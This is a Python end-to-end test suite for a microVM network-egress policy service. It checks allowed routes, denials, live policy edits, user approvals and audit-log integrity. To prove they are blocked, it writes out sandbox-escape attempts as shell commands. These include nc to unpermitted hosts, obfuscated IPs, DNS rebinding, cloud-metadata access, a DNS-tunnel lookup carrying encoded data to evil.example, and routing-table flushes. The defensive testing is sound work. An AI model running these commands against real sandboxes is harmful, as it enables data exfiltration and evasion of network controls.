"""What the programs of a real microVM reach, and what they do not, whatever they try."""

import asyncio
import contextlib
import os
import signal
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from lns.egress.v1 import egress_service_pb2, egress_service_pb2_grpc
from lns.vm.v1 import run_pb2, vm_service_pb2

from services.chassis.channel import open_channel
from services.chassis.settings import PeerSettings
from services.core.egress import audit
from tests.support.eventually import eventually
from tests.support.materializer import served
from tests.support.microvm import busybox_image, require_microvms, served_runner
from tests.support.vm_service import VmClient

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(400)]
pb = egress_service_pb2
FOREVER = ("tail", "-f", "/dev/null")


@dataclass(slots=True)
class Server:
    """A server of the host that says hello first, then repeats lines; it counts who comes."""

    port: int = 0
    visits: int = 0
    ends: int = 0
    heard: list[bytes] = field(default_factory=list)
    writers: list[asyncio.StreamWriter] = field(default_factory=list)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.visits += 1
        self.writers.append(writer)
        with contextlib.suppress(OSError):
            writer.write(b"hello\n")
            while line := await reader.readline():
                self.heard.append(line)
                writer.write(b"heard " + line)
                await writer.drain()
        self.ends += 1
        writer.transport.abort()


@contextlib.asynccontextmanager
async def server() -> AsyncIterator[Server]:
    one = Server()
    listening = await asyncio.start_server(one.serve, "127.0.0.1", 0)
    one.port = listening.sockets[0].getsockname()[1]
    async with listening:
        yield one
        for writer in one.writers:
            writer.transport.abort()


@dataclass(slots=True, kw_only=True)
class World:
    """A service with a run, a server that its policy allows, and one that it does not."""

    vm: VmClient
    egress: "egress_service_pb2_grpc.EgressServiceAsyncStub"
    run: run_pb2.Run
    allowed: Server
    canary: Server
    policy: Path
    home: Path

    async def shell(self, script: str) -> str:
        out, err, _ = await self.vm.execute(self.run.run_id, "sh", "-c", script)
        return (out + err).decode()

    async def records(self) -> list[egress_service_pb2.EgressRecord]:
        request = pb.ReadEgressRequest(run=self.run.run_id)
        return [response.record async for response in self.egress.ReadEgress(request)]


NAMES = ("api.test=127.0.0.1", "other.test=127.0.0.1", "rebind.test=10.1.2.3",
         "meta.test=169.254.169.254")  # fmt: skip


def write_policy(path: Path, *routes: str, default: str = "ask") -> None:
    routed = "" if routes else " []"
    lines = [f"network:\n  defaultVerdict: {default}\n  allowedRoutes:{routed}"]
    for route in routes:
        verdict, match = route.split()
        lines.append(f"    - {{match: '{match}', verdict: {verdict}}}")
    new = path.with_suffix(".new")
    new.write_text("\n".join(lines) + "\n")
    new.rename(path)


@contextlib.asynccontextmanager
async def egress_stub(
    home: Path,
) -> AsyncIterator["egress_service_pb2_grpc.EgressServiceAsyncStub"]:
    peer = PeerSettings(target=f"unix:{home}/vm.sock", timeout=240)
    async with open_channel(peer, pb.DESCRIPTOR) as channel:
        yield egress_service_pb2_grpc.EgressServiceStub(channel)


@contextlib.asynccontextmanager
async def a_world(home: Path, *, default: str = "deny") -> AsyncIterator[World]:
    policy = home / "project" / "lns-policy.yaml"
    policy.parent.mkdir()
    async with (
        server() as allowed,
        server() as canary,
        served(home) as images,
        served_runner(home, names=NAMES) as vm,
        egress_stub(home) as egress,
    ):
        write_policy(
            policy,
            f"allow api.test:{allowed.port}",
            f"allow 127.0.0.1/32:{allowed.port}",
            f"allow 127.0.0.1/32:{canary.port}",  # where names may lead; no name is allowed there
            f"allow host.lns.internal:{allowed.port}",
            "allow rebind.test", "allow meta.test",
            default=default,
        )  # fmt: skip
        image = (await busybox_image(images)).composefs_digest
        options = run_pb2.RunOptions(policy_file=str(policy))
        run = await vm.create(*FOREVER, digest=image, options=options)
        await vm.until(run.run_id, run_pb2.Run.STATE_RUNNING)
        try:
            yield World(
                vm=vm, egress=egress, run=run, allowed=allowed, canary=canary, policy=policy,
                home=home,
            )  # fmt: skip
        finally:
            await vm.stub.RemoveRun(vm_service_pb2.RemoveRunRequest(run=run.run_id, force=True))


CLIENTS = """ps | awk '$3 == "nc" { print $3 }'"""
SAYS = "(echo hi; sleep 1) | nc -w 20"


async def test_a_run_reaches_what_its_policy_allows_and_nothing_else(
    short_directory: Path,
) -> None:
    require_microvms()
    async with a_world(short_directory) as world:
        port, canary = world.allowed.port, world.canary.port
        reached = await world.shell(f"{SAYS} api.test {port}; {SAYS} API.test. {port}")
        assert reached.split("\n")[:4] == ["hello", "heard hi"] * 2, reached
        assert "hello" in await world.shell(f"{SAYS} host.lns.internal {port}")

        visits = world.allowed.visits
        for attempt in WAYS_OUT:
            script = attempt(port, canary)
            said = await world.shell(f"({script}) 2>&1 | head -c 300")
            assert "hello" not in said, script
        assert (world.canary.visits, world.allowed.visits) == (0, visits)

        page = await world.shell("wget -q -O - http://lns.internal/denials")
        assert "how_to_allow" in page
        assert '"host": "other.test"' in page
        denied = [one for one in await world.records() if one.verdict == "deny"]
        assert any(one.host == "other.test" and one.reason for one in denied)
        assert any("10.0.0.0/8 is private" in one.reason for one in denied)
        assert any("a cloud's metadata" in one.reason for one in denied)

        assert "hello" not in await world.shell(without_routes(port, canary))
        assert (world.canary.visits, world.allowed.visits) == (0, visits)


# A static program tries them, without proxy variables: ways out 1 to 12, 35 to 39, 43 and 46.
WAYS_OUT: tuple[Callable[[int, int], str], ...] = (
    lambda port, _: f"{SAYS} other.test {port}",
    lambda _, canary: f"{SAYS} api.test {canary}",
    lambda _, canary: f"{SAYS} 8.8.8.8 {canary}",
    lambda _, canary: f"{SAYS} 2130706434 {canary}; {SAYS} 0x7f.2 {canary}; {SAYS} 0177.2 {canary}",
    lambda port, _: f"{SAYS} api.test.evil.example {port}; {SAYS} sub.api.test {port}",
    lambda port, _: f"{SAYS} xn--pi-7ka.test {port}",
    lambda _, __: f"{SAYS} rebind.test 80; {SAYS} meta.test 80",
    lambda _, canary: f"{SAYS} host.lns.internal {canary}; {SAYS} x.lns.internal {canary}",
    lambda _, canary: f"{SAYS} 198.18.1.77 {canary}; {SAYS} 198.19.7.7 {canary}",
    lambda _, canary: f"echo hi | nc -u -w 2 8.8.8.8 {canary}; echo hi | nc -u -w 2 1.1.1.1 443",
    lambda _, __: "ping -c 1 -W 2 8.8.8.8; ping -c 1 -W 2 api.test",
    lambda _, __: "nslookup -type=txt c2VjcmV0.evil.example 8.8.8.8; nslookup x.evil.example",
    lambda _, canary: f"unset http_proxy; wget -q -T 5 -O - http://other.test:{canary}/",
    lambda _, canary: f"for p in 22 25 53 80 443 853 {canary}; do {SAYS} 9.9.9.9 $p; done",
)


def without_routes(port: int, canary: int) -> str:
    """Takes the agent's routes away, where that is permitted, then tries: way out 43."""
    attempts = "; ".join(
        f"timeout 5 nc {host} {one} </dev/null"
        for host in ("10.1.2.3", "198.19.255.1")
        for one in (canary, port)
    )
    return (
        "for f in -4 -6; do for t in local main all; do "
        "busybox ip $f route flush table $t; done; busybox ip $f route add default dev lo; done; "
        f"{attempts}"
    )


async def test_one_denial_is_one_failure_at_once_and_edits_take_effect(
    short_directory: Path,
) -> None:
    require_microvms()
    async with a_world(short_directory) as world:
        port = world.allowed.port
        assert "refused" in await world.shell(f"nc -w 20 other.test {port} </dev/null")
        write_policy(
            world.policy, f"allow other.test:{port}", f"allow 127.0.0.1/32:{port}", default="deny"
        )
        assert "hello" in await world.shell(f"{SAYS} other.test {port}")

        # What is open and not permitted any longer is reset.
        visits, ends = world.allowed.visits, world.allowed.ends
        await world.shell(f"(sleep 90 | nc -w 90 other.test {port}) >/dev/null 2>&1 &")
        await eventually(lambda: world.allowed.visits > visits, within=60)
        assert await world.shell(CLIENTS) == "nc\n"
        write_policy(world.policy, default="deny")
        await eventually(lambda: world.allowed.ends > ends, within=60)
        assert await world.shell(CLIENTS) == ""
        assert any("revoked" in record.reason for record in await world.records())


async def test_a_user_allows_what_is_asked_for_while_it_waits(short_directory: Path) -> None:
    require_microvms()
    async with a_world(short_directory, default="ask") as world:
        port = world.allowed.port
        waiting = asyncio.create_task(world.shell(f"{SAYS} other.test {port}"))
        watch = world.egress.WatchApprovals(pb.WatchApprovalsRequest(run=world.run.run_id))
        async for event in watch:
            approval = event.asked
            break
        assert (approval.host, approval.port) == ("other.test", port)
        assert "hello" in await world.shell(f"{SAYS} api.test {port}")  # not held up by it
        await world.egress.AnswerApproval(
            pb.AnswerApprovalRequest(approval_id=approval.approval_id, verdict="allow")
        )
        assert "hello" in await waiting
        assert "hello" in await world.shell(f"{SAYS} other.test {port}")  # for this run


async def test_connections_outlive_the_service_and_its_log_stays_whole(
    short_directory: Path,
) -> None:
    """The runner is closed under an open connection; the next one finds worker and chain."""
    require_microvms()
    home = short_directory
    policy = home / "lns-policy.yaml"
    async with server() as allowed, served(home) as images:
        write_policy(policy, f"allow api.test:{allowed.port}", "allow 127.0.0.0/8", default="deny")
        image = (await busybox_image(images)).composefs_digest
        options = run_pb2.RunOptions(policy_file=str(policy))
        loop = f"(while :; do echo tick; sleep 1; done) | nc api.test {allowed.port} >/dev/null"
        async with served_runner(home, names=NAMES) as vm:
            run = await vm.create("sh", "-c", loop, digest=image, options=options)
            await eventually(lambda: len(allowed.heard) > 1, within=120)
            worker = int((home / "runs" / run.run_id / "egress.pid").read_text())
        before = len(allowed.heard)
        await eventually(lambda: len(allowed.heard) > before, within=60)
        async with served_runner(home, names=NAMES) as vm, egress_stub(home) as egress:
            before = len(allowed.heard)
            await eventually(lambda: len(allowed.heard) > before, within=60)
            assert int((home / "runs" / run.run_id / "egress.pid").read_text()) == worker
            assert allowed.visits == 1
            os.kill(worker, signal.SIGKILL)
            await vm.ended(run.run_id)  # its only connection is reset
            log = b"".join(
                [one.data async for one in egress.ReadAudit(pb.ReadAuditRequest(run=run.run_id))]
            )
        lines = list(audit.verified(log.splitlines(keepends=True)))
        kinds = [line.values["kind"] for line in lines]
        assert "connection" in kinds
        assert "worker" in kinds
